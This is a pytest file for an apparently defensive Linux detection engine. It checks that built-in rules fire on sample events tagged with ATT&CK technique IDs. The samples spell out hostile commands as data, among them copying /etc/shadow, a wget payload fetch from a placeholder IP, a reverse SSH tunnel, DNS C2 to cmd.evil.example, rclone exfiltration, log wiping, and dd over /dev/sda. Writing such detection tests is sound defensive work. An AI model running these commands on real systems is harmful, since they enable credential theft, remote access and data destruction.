"""The wider built-in library (issue 6): every rule fires on a procedure written for this test, the set
covers at least 80 techniques, and each technique is exercised by a built-in ability."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from detection_helpers import exec_event, proc_event

from assay.detection import Engine, builtin_techniques
from assay.events import Event


def fw(path: str, exe: str = "/usr/bin/dash") -> Event:
    return proc_event("file_write", exe, **{"file.path": path})


def conn(exe: str, ip: str = "203.0.113.7", port: int = 4444) -> Event:
    return proc_event(
        "connect", exe, **{"destination.ip": ip, "destination.port": port, "network.transport": "tcp"}
    )


PY = "/usr/bin/python3.11"
EXAMPLES: dict[str, list[Event]] = {
    "T1059.004": [
        exec_event(
            "sh",
            "-i",
            exe="/usr/bin/dash",
            parent={"process.parent.executable": PY, "process.parent.command_line": "python3 -c x"},
        )
    ],
    "T1059.007": [exec_event("node", "-e", "require('child_process').exec('id')")],
    "T1620": [exec_event("/memfd:payload (deleted)", exe="/memfd:payload (deleted)")],
    "T1053.003": [
        fw("/etc/cron.d/updater"),
        fw("/var/spool/cron/crontabs/www-data"),
        exec_event("crontab", "/tmp/c.txt"),
    ],
    "T1053.006": [exec_event("systemd-run", "--user", "--on-calendar=hourly", "/tmp/x")],
    "T1053.002": [exec_event("at", "now", "+", "5", "minutes")],
    "T1098.004": [fw("/home/u/.ssh/authorized_keys", "/usr/bin/tee")],
    "T1037.004": [fw("/etc/rc.local"), fw("/etc/init.d/backdoor")],
    "T1547.006": [
        exec_event("insmod", "/tmp/rk.ko"),
        proc_event("module_load", "/usr/bin/python3.11", **{"module.name": "rk"}),
    ],
    "T1574.006": [fw("/etc/ld.so.preload"), exec_event("env", "LD_PRELOAD=/tmp/hook.so", "ls")],
    "T1556.003": [
        fw("/etc/pam.d/sshd", "/usr/bin/sed"),
        fw("/lib/x86_64-linux-gnu/security/pam_unix.so", "/usr/bin/cp"),
    ],
    "T1505.003": [fw("/var/www/html/uploads/c.php", "/usr/sbin/apache2")],
    "T1546.017": [fw("/etc/udev/rules.d/75-usb.rules")],
    "T1547.013": [fw("/home/u/.config/autostart/update.desktop")],
    "T1136.001": [exec_event("useradd", "-m", "-s", "/bin/bash", "svc-backup")],
    "T1098.007": [
        exec_event("usermod", "-aG", "sudo", "svc-backup"),
        exec_event("gpasswd", "-a", "bob", "docker"),
    ],
    "T1548.001": [
        exec_event("chmod", "u+s", "/tmp/bash"),
        exec_event("chmod", "2755", "/tmp/x"),
        proc_event("file_chmod", "/tmp/x/exploit", **{"file.path": "/tmp/sh", "file.mode": 0o4755}),
    ],
    "T1548.003": [fw("/etc/sudoers.d/99-nopasswd", "/usr/bin/tee")],
    "T1611": [exec_event("nsenter", "--target", "1", "--mount", "--uts", "--ipc", "--net", "--pid", "sh")],
    "T1055.008": [proc_event("ptrace", "/tmp/inject", **{"ptrace.request": 16, "ptrace.target_pid": 1})],
    "T1055.009": [fw("/proc/1234/mem", "/tmp/inject")],
    "T1070.004": [exec_event("shred", "-zu", "/tmp/loot.tgz"), exec_event("rm", "-rf", "/dev/shm/.cache-x")],
    "T1070.006": [
        exec_event("touch", "-r", "/bin/ls", "/usr/local/bin/implant"),
        exec_event("touch", "-d", "2020-01-01", "f"),
    ],
    "T1685.006": [
        exec_event("truncate", "-s", "0", "/var/log/auth.log"),
        exec_event("journalctl", "--vacuum-time=1s"),
        proc_event("file_delete", "/usr/bin/rm", **{"file.path": "/var/log/syslog"}),
    ],
    "T1685": [exec_event("systemctl", "stop", "falcon-sensor"), exec_event("setenforce", "0")],
    "T1685.004": [
        exec_event("auditctl", "-e", "0"),
        exec_event("auditctl", "-D"),
        exec_event("systemctl", "stop", "auditd"),
    ],
    "T1686": [
        exec_event("ufw", "disable"),
        exec_event("iptables", "-F"),
        exec_event("iptables", "-P", "INPUT", "ACCEPT"),
        exec_event("nft", "flush", "ruleset"),
    ],
    "T1690": [
        exec_event("env", "HISTFILE=/dev/null", "bash"),
        exec_event("bash", "+o", "history", exe="/usr/bin/bash"),
    ],
    "T1564.001": [fw("/tmp/.ICE-cache/x"), exec_event("mkdir", "/dev/shm/.x")],
    "T1036.005": [
        exec_event("/tmp/sshd", exe="/tmp/sshd"),
        exec_event("/var/tmp/.d/kworker", exe="/var/tmp/.d/kworker"),
    ],
    "T1036.006": [exec_event("/home/u/report.txt ", exe="/home/u/report.txt ")],
    "T1027.004": [exec_event("gcc", "-o", "/tmp/x", "/tmp/x.c")],
    "T1553.004": [fw("/usr/local/share/ca-certificates/corp-root.crt", "/usr/bin/cp")],
    "T1497.001": [exec_event("systemd-detect-virt"), exec_event("cat", "/sys/class/dmi/id/product_name")],
    "T1003.008": [
        exec_event("cp", "/etc/shadow", "/tmp/s"),
        exec_event("unshadow", "p", "s"),
        proc_event("file_read_sensitive", PY, **{"file.path": "/etc/shadow"}),
    ],
    "T1003.007": [exec_event("cat", "/proc/812/environ"), exec_event("gcore", "-o", "/tmp/d", "812")],
    "T1552.001": [
        exec_event("grep", "-rniE", "password|secret", "/etc"),
        exec_event("find", "/", "-name", "*.env", "-exec", "grep", "-H", "API_KEY", "{}", ";"),
    ],
    "T1555.003": [exec_event("cp", "/home/u/.mozilla/firefox/ab.default/logins.json", "/tmp/")],
    "T1555": [exec_event("cp", "/home/u/Passwords.kdbx", "/tmp/")],
    "T1040": [exec_event("tcpdump", "-i", "any", "-w", "/tmp/c.pcap")],
    "T1056.001": [exec_event("cat", "/dev/input/event3"), exec_event("xinput", "test", "11")],
    "T1558.005": [exec_event("cp", "/tmp/krb5cc_1000", "/tmp/t")],
    "T1083": [exec_event("find", "/", "-perm", "-4000", "-type", "f"), exec_event("ls", "-laR", "/home")],
    "T1069.001": [exec_event("groups", "alice"), exec_event("cat", "/etc/group")],
    "T1007": [exec_event("systemctl", "list-units", "--type=service"), exec_event("service", "--status-all")],
    "T1120": [exec_event("lsusb", "-v")],
    "T1124": [exec_event("timedatectl", "status")],
    "T1201": [exec_event("chage", "-l", "root"), exec_event("cat", "/etc/login.defs")],
    "T1217": [
        exec_event(
            "sqlite3", "/home/u/.mozilla/firefox/ab.default/places.sqlite", "select url from moz_places"
        )
    ],
    "T1135": [exec_event("showmount", "-e", "10.0.0.5"), exec_event("smbclient", "-L", "//10.0.0.5", "-N")],
    "T1614.001": [exec_event("localectl", "status")],
    "T1613": [
        exec_event("kubectl", "auth", "can-i", "--list"),
        exec_event("kubectl", "get", "secrets", "-A"),
        exec_event("cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"),
    ],
    "T1652": [exec_event("lsmod"), exec_event("modinfo", "nf_tables")],
    "T1654": [
        exec_event("journalctl", "-u", "ssh"),
        exec_event("journalctl", "_COMM=sudo"),
        exec_event("lastb"),
    ],
    "T1016.001": [exec_event("curl", "-s", "https://ifconfig.me"), exec_event("ping", "-c", "1", "8.8.8.8")],
    "T1018": [exec_event("cat", "/etc/hosts"), exec_event("nmap", "-sn", "10.0.0.0/24")],
    "T1046": [exec_event("nmap", "-sV", "10.0.0.5"), exec_event("nc", "-zv", "10.0.0.5", "20-1024")],
    "T1021.004": [
        exec_event("ssh", "-o", "StrictHostKeyChecking=no", "root@10.0.0.5", "id"),
        exec_event("sshpass", "-p", "x", "ssh", "h"),
    ],
    "T1570": [exec_event("scp", "/tmp/agent", "root@10.0.0.5:/tmp/")],
    "T1563.001": [exec_event("env", "SSH_AUTH_SOCK=/tmp/ssh-AbCd1234/agent.811", "ssh", "db01")],
    "T1074.001": [exec_event("cp", "-r", "/home/u/.ssh", "/tmp/.stage/")],
    "T1113": [exec_event("import", "-window", "root", "/tmp/s.png"), exec_event("scrot", "/tmp/s.png")],
    "T1115": [exec_event("xclip", "-selection", "clipboard", "-o"), exec_event("xsel", "--output")],
    "T1123": [exec_event("arecord", "-d", "30", "/tmp/a.wav")],
    "T1125": [exec_event("ffmpeg", "-f", "v4l2", "-i", "/dev/video0", "/tmp/v.mp4")],
    "T1119": [exec_event("find", "/home", "-name", "*.pdf", "-exec", "cp", "{}", "/tmp/x/", ";")],
    "T1114.001": [exec_event("tar", "czf", "/tmp/m.tgz", "/var/mail/alice")],
    "T1105": [
        exec_event("wget", "-O", "/dev/shm/x", "http://203.0.113.5/x"),
        proc_event("file_write", "/usr/bin/curl", **{"file.path": "/tmp/payload"}),
    ],
    "T1572": [
        exec_event("ssh", "-fNR", "9000:localhost:22", "user@203.0.113.5"),
        exec_event("chisel", "client", "x:8080", "R:socks"),
    ],
    "T1090": [exec_event("proxychains4", "curl", "http://internal")],
    "T1095": [conn("/usr/bin/ncat")],
    "T1071.004": [exec_event("dig", "+short", "-t", "TXT", "cmd.evil.example")],
    "T1219": [exec_event("/opt/anydesk/anydesk", exe="/usr/bin/anydesk")],
    "T1071.001": [exec_event("curl", "-s", "http://203.0.113.9:8080/beacon")],
    "T1567.002": [
        exec_event("rclone", "copy", "/tmp/loot", "remote:bucket"),
        exec_event("aws", "s3", "cp", "/tmp/x", "s3://b/x"),
    ],
    "T1030": [exec_event("split", "-b", "10M", "/tmp/loot.tgz", "/tmp/part.")],
    "T1561.001": [
        exec_event("dd", "if=/dev/zero", "of=/dev/sda", "bs=1M"),
        exec_event("wipefs", "-a", "/dev/nvme0n1"),
    ],
    "T1489": [exec_event("systemctl", "stop", "postgresql"), exec_event("killall", "-9", "mysqld")],
    "T1490": [exec_event("lvremove", "-f", "vg0/snap"), exec_event("rm", "-rf", "/var/backups/db")],
    "T1496.001": [exec_event("/tmp/xmrig", "-o", "stratum+tcp://pool:3333", exe="/tmp/xmrig")],
    "T1529": [exec_event("shutdown", "-h", "now"), exec_event("systemctl", "reboot")],
    "T1531": [exec_event("passwd", "-l", "admin"), exec_event("usermod", "--expiredate", "1", "bob")],
    "T1486": [
        exec_event("gpg", "--batch", "--passphrase", "x", "-c", "/srv/data/a.db"),
        exec_event("openssl", "enc", "-aes-256-cbc", "-in", "a", "-out", "a.enc"),
    ],
}


@pytest.fixture(scope="module")
def engine() -> Engine:
    eng = Engine.load(include_builtin=True, include_default_allowlists=False)
    assert eng.errors == []
    return eng


CASES = [(t, i, e) for t, evs in EXAMPLES.items() for i, e in enumerate(evs)]


@pytest.mark.parametrize(("technique", "i", "event"), CASES, ids=[f"{t}-{i}" for t, i, _ in CASES])
def test_each_technique_fires_on_its_behaviour(engine: Engine, technique: str, i: int, event: Event) -> None:
    got = {t for a in engine.process(event) for t in a.techniques}
    assert technique in got, f"{technique} example {i} raised {sorted(got)}"


def test_every_builtin_technique_has_an_example_here_or_in_the_first_library() -> None:
    from test_builtin_rules import POSITIVE

    covered = set(EXAMPLES) | {t for t, _ in POSITIVE}
    correlation_only = {t for r in Engine.load().rules if r.kind == "correlation" for t in r.techniques}
    missing = builtin_techniques() - covered - correlation_only
    assert missing == set()


def test_at_least_80_techniques_current_ids_and_not_t1049() -> None:
    from assay import attack

    techniques = builtin_techniques()
    assert len(techniques) >= 80
    assert "T1049" not in techniques  # left without a rule on purpose (architecture §8)
    for t in techniques:
        assert attack.normalize(t) == t, f"{t} is not a current (v19) ID"
        tech = attack.catalogue().technique(t)
        assert not tech.revoked and not tech.deprecated


def test_technique_list_is_derived_from_the_rules(tmp_path: Path) -> None:
    """`builtin_techniques()` reads the rules' tags; the published JSON list is the same set."""
    from assay.detection import technique_coverage

    coverage = technique_coverage()
    assert set(coverage) == builtin_techniques()
    assert all(coverage[t] for t in coverage)  # each technique lists the rules that tag it
    doc = json.loads(json.dumps(coverage))
    assert doc == coverage
